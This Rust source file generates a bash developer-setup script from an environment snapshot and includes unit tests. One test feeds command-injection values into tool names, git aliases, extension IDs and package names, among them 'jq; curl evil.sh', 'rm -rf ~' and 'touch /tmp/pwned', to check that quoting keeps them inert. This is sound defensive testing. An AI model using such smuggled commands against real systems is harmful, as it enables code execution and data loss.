use super::{double_quoted, shell_word, Generator};
use crate::model::{Binary, Snapshot};

pub struct BashGenerator;

/// Homebrew formulae whose name differs from the command they install.
const BREW_FORMULAE: &[(&str, &str)] = &[
    ("nvim", "neovim"),
    ("kubectl", "kubernetes-cli"),
    ("aws", "awscli"),
    ("gcloud", "google-cloud-sdk"),
    ("az", "azure-cli"),
    ("mongo", "mongodb-community"),
    ("psql", "postgresql"),
    ("sqlite3", "sqlite"),
];

fn brew_formula(command: &str) -> &str {
    BREW_FORMULAE
        .iter()
        .find(|(name, _)| *name == command)
        .map(|(_, formula)| *formula)
        .unwrap_or(command)
}

/// The command that installs one global package, for managers that have one.
fn global_install(manager: &str, package: &str) -> Option<String> {
    let package = shell_word(package);
    match manager {
        "npm" => Some(format!("npm install -g {}", package)),
        "yarn" => Some(format!("yarn global add {}", package)),
        "pnpm" => Some(format!("pnpm add -g {}", package)),
        "bun" => Some(format!("bun add -g {}", package)),
        _ => None,
    }
}

/// Flattens a value for use in a comment line.
fn one_line(value: &str) -> String {
    value.replace(['\n', '\r'], " ")
}

fn push_install_blocks(lines: &mut Vec<String>, binaries: &[Binary], has_brew: bool) {
    for binary in binaries {
        let name = shell_word(&binary.name);
        lines.push(format!("# {} ({})", one_line(&binary.name), one_line(&binary.version)));
        lines.push(format!("if ! command -v {} &> /dev/null; then", name));
        lines.push(format!(
            "  echo {}",
            double_quoted(&format!("Installing {}...", binary.name))
        ));
        if has_brew {
            lines.push(format!("  brew install {}", shell_word(brew_formula(&binary.name))));
        } else {
            lines.push(format!(
                "  echo {}",
                double_quoted(&format!("Please install {} manually", binary.name))
            ));
        }
        lines.push("fi".to_string());
        lines.push(String::new());
    }
}

impl Generator for BashGenerator {
    fn extension(&self) -> &'static str {
        ".sh"
    }

    fn generate(&self, snapshot: &Snapshot) -> String {
        let has_manager = |name: &str| snapshot.package_managers.iter().any(|pm| pm.name == name);
        let has_brew = has_manager("brew");

        let mut lines: Vec<String> = vec![
            "#!/bin/bash".to_string(),
            String::new(),
            "# Developer Environment Setup Script".to_string(),
            format!("# Generated on {}", snapshot.timestamp.to_rfc3339()),
            "# This script will install and configure your development environment".to_string(),
            String::new(),
            "set -e".to_string(),
            String::new(),
            "echo 'Starting environment setup...'".to_string(),
            String::new(),
            "# System Information".to_string(),
            format!("# OS: {}", one_line(&snapshot.system.os)),
            format!("# Architecture: {}", one_line(&snapshot.system.arch)),
            format!("# Shell: {}", one_line(&snapshot.system.shell)),
            String::new(),
            "# Detect Operating System".to_string(),
            "OS=$(uname -s)".to_string(),
            "ARCH=$(uname -m)".to_string(),
            String::new(),
        ];

        if !snapshot.package_managers.is_empty() {
            lines.push("# Install Package Managers".to_string());
            lines.push("echo 'Installing package managers...'".to_string());
            lines.push(String::new());

            if has_brew {
                lines.extend(
                    [
                        "# Install Homebrew (if not installed)",
                        "if ! command -v brew &> /dev/null; then",
                        "  echo \"Installing Homebrew...\"",
                        "  /bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)\"",
                        "fi",
                        "",
                    ]
                    .map(String::from),
                );
            }

            if has_manager("bun") {
                lines.extend(
                    [
                        "# Install Bun (if not installed)",
                        "if ! command -v bun &> /dev/null; then",
                        "  echo \"Installing Bun...\"",
                        "  curl -fsSL https://bun.sh/install | bash",
                        "fi",
                        "",
                    ]
                    .map(String::from),
                );
            }
        }

        if !snapshot.runtimes.is_empty() {
            lines.push("# Install Programming Runtimes".to_string());
            lines.push("echo 'Installing runtimes...'".to_string());
            lines.push(String::new());
            push_install_blocks(&mut lines, &snapshot.runtimes, has_brew);
        }

        if !snapshot.tools.is_empty() {
            lines.push("# Install Development Tools".to_string());
            lines.push("echo 'Installing development tools...'".to_string());
            lines.push(String::new());
            push_install_blocks(&mut lines, &snapshot.tools, has_brew);
        }

        if let Some(git) = &snapshot.git {
            lines.push("# Configure Git".to_string());
            lines.push("echo 'Configuring Git...'".to_string());
            if let Some(name) = &git.user_name {
                lines.push(format!("git config --global user.name {}", double_quoted(name)));
            }
            if let Some(email) = &git.user_email {
                lines.push(format!("git config --global user.email {}", double_quoted(email)));
            }
            if let Some(branch) = &git.default_branch {
                lines.push(format!(
                    "git config --global init.defaultBranch {}",
                    double_quoted(branch)
                ));
            }
            for (alias, command) in git.aliases.iter().flatten() {
                lines.push(format!(
                    "git config --global {} {}",
                    shell_word(&format!("alias.{}", alias)),
                    double_quoted(command)
                ));
            }
            lines.push(String::new());
        }

        let extensions = snapshot.extensions();
        if !extensions.is_empty() {
            lines.push("# Install Editor Extensions".to_string());
            lines.push("echo 'Installing editor extensions...'".to_string());
            lines.push(String::new());
            lines.push("if command -v code &> /dev/null; then".to_string());
            for ext in extensions {
                lines.push(format!("  code --install-extension {}", shell_word(&ext.id)));
            }
            lines.push("else".to_string());
            lines.push("  echo \"Editor CLI not found. Please install extensions manually.\"".to_string());
            lines.push("fi".to_string());
            lines.push(String::new());
        }

        for pm in &snapshot.package_managers {
            let Some(packages) = pm.global_packages.as_ref().filter(|p| !p.is_empty()) else {
                continue;
            };
            lines.push(format!("# Install {} global packages", one_line(&pm.name)));
            lines.push(format!(
                "echo {}",
                double_quoted(&format!("Installing {} global packages...", pm.name))
            ));
            lines.push(String::new());
            lines.extend(packages.iter().filter_map(|pkg| global_install(&pm.name, pkg)));
            lines.push(String::new());
        }

        lines.push("echo 'Environment setup complete!'".to_string());
        lines.push(String::new());

        lines.join("\n")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{EditorIntegration, Extension, GitConfig, PackageManager, SystemInfo};
    use std::collections::BTreeMap;

    fn sample() -> Snapshot {
        let mut snapshot = Snapshot::new(SystemInfo::default());
        snapshot.package_managers = vec![
            PackageManager::new("brew", "4.2.0"),
            PackageManager::new("npm", "10.2.0")
                .with_global_packages(vec!["typescript@5.3.3".to_string()]),
        ];
        snapshot.runtimes = vec![Binary::new("node", "20.11.0", "/opt/homebrew/bin/node")];
        snapshot.tools = vec![Binary::new("kubectl", "1.29.1", "/opt/homebrew/bin/kubectl")];
        snapshot.git = Some(GitConfig {
            user_name: Some("Ada \"Countess\" Lovelace".to_string()),
            user_email: Some("ada@example.com".to_string()),
            default_branch: None,
            aliases: Some(BTreeMap::from([("st".to_string(), "status -sb".to_string())])),
        });
        snapshot.editor_integration = Some(EditorIntegration {
            extensions: vec![Extension::parse("rust-lang.rust-analyzer@0.3.1")],
            settings: None,
        });
        snapshot
    }

    #[test]
    fn test_brew_formula_mapping() {
        assert_eq!(brew_formula("kubectl"), "kubernetes-cli");
        assert_eq!(brew_formula("jq"), "jq");
    }

    #[test]
    fn test_script_sections() {
        let script = BashGenerator.generate(&sample());

        assert!(script.starts_with("#!/bin/bash\n"));
        assert!(script.contains("\nset -e\n"));
        assert!(script.contains("# Install Homebrew (if not installed)"));
        assert!(!script.contains("Installing Bun"));
        assert!(script.contains("if ! command -v node &> /dev/null; then\n  echo \"Installing node...\"\n  brew install node\nfi"));
        assert!(script.contains("  brew install kubernetes-cli\n"));
        assert!(script.contains(r#"git config --global user.name "Ada \"Countess\" Lovelace""#));
        assert!(script.contains(r#"git config --global alias.st "status -sb""#));
        assert!(!script.contains("init.defaultBranch"));
        assert!(script.contains("  code --install-extension rust-lang.rust-analyzer\n"));
        assert!(script.contains("npm install -g typescript@5.3.3\n"));
        assert!(script.ends_with("echo 'Environment setup complete!'\n"));
    }

    #[test]
    fn test_without_brew_asks_for_manual_install() {
        let mut snapshot = sample();
        snapshot.package_managers.retain(|pm| pm.name != "brew");

        let script = BashGenerator.generate(&snapshot);
        assert!(!script.contains("brew install"));
        assert!(script.contains("  echo \"Please install node manually\"\n"));
    }

    #[test]
    fn test_untrusted_values_stay_single_words() {
        let mut snapshot = sample();
        snapshot.tools = vec![Binary::new("jq; curl evil.sh", "1.0\nrm -rf ~", "")];
        snapshot.git.as_mut().unwrap().aliases = Some(BTreeMap::from([(
            "x; touch /tmp/pwned".to_string(),
            "status".to_string(),
        )]));
        snapshot.editor_integration = Some(EditorIntegration {
            extensions: vec![Extension::parse("weird ext; reboot")],
            settings: None,
        });
        snapshot.package_managers[1].global_packages = Some(vec!["left-pad && id".to_string()]);

        let script = BashGenerator.generate(&snapshot);
        assert!(script.contains("# jq; curl evil.sh (1.0 rm -rf ~)\n"));
        assert!(script.contains("if ! command -v \"jq; curl evil.sh\" &> /dev/null; then\n"));
        assert!(script.contains("  brew install \"jq; curl evil.sh\"\n"));
        assert!(script.contains(r#"git config --global "alias.x; touch /tmp/pwned" "status""#));
        assert!(script.contains("  code --install-extension \"weird ext; reboot\"\n"));
        assert!(script.contains("npm install -g \"left-pad && id\"\n"));
        assert!(!script.lines().any(|line| line.starts_with("rm -rf")));
    }

    #[test]
    fn test_empty_snapshot_has_only_frame() {
        let script = BashGenerator.generate(&Snapshot::new(SystemInfo::default()));
        assert!(!script.contains("# Install"));
        assert!(!script.contains("# Configure Git"));
    }
}
